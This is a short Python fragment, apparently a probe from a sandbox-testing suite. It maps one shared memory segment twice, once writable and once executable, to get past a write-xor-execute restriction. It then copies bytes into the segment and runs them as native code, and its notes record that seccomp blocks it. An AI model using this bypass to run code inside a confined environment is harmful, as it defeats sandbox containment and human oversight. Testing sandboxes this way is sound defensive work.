# Maps the same memory twice, once to write and once to run: the denial of both at once does not see it.
# evidence: machine
# held by: seccomp
# with: native
libc.shmat.restype = ctypes.c_void_p
segment = libc.shmget(0, ctypes.c_size_t(4096), 0o1700)
written, run = libc.shmat(segment, None, 0), libc.shmat(segment, None, 0o110000)
libc.shmctl(segment, 0, None)
if written not in (None, 2 ** 64 - 1) and run not in (None, 2 ** 64 - 1):
    ctypes.memmove(written, leaving, len(leaving))
    ctypes.CFUNCTYPE(None)(run)()
